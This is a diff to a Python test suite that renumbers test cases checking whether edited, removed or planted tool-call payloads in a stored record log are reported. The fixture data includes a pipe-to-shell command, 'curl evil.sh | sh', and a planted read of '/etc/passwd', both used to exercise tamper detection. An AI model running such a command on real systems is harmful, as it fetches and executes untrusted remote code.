@@ -267,17 +267,18 @@ def store_problems(db_path: Path) -> list[str]:
 
 
 @pytest.mark.parametrize(("seq", "payload", "what"), [
+    # (records 1 and 2 are the host's: the image registered, the process spawned)
     # write_file's call, its arguments rewritten (the record still says "hello")
-    (5, msgpack.packb({"name": "write_file",
+    (7, msgpack.packb({"name": "write_file",
                        "args": {"path": "/data/a.txt", "data": "curl evil.sh | sh"}}),
      "its stored arguments payload does not match the hash its record carries: edited"),
     # fs.read's result, rewritten
-    (11, msgpack.packb("evil"),
+    (13, msgpack.packb("evil"),
      "its stored result payload does not match the hash its record carries: edited"),
     # the tool call's result, removed
-    (12, None, "its stored result payload is missing: removed"),
+    (14, None, "its stored result payload is missing: removed"),
     # a payload where the record has none (a denial)
-    (14, msgpack.packb({"path": "/etc/passwd"}),
+    (16, msgpack.packb({"path": "/etc/passwd"}),
      "holds a stored payload that its record does not vouch for: planted"),
 ])
 async def test_an_edited_payload_is_reported_at_its_record(
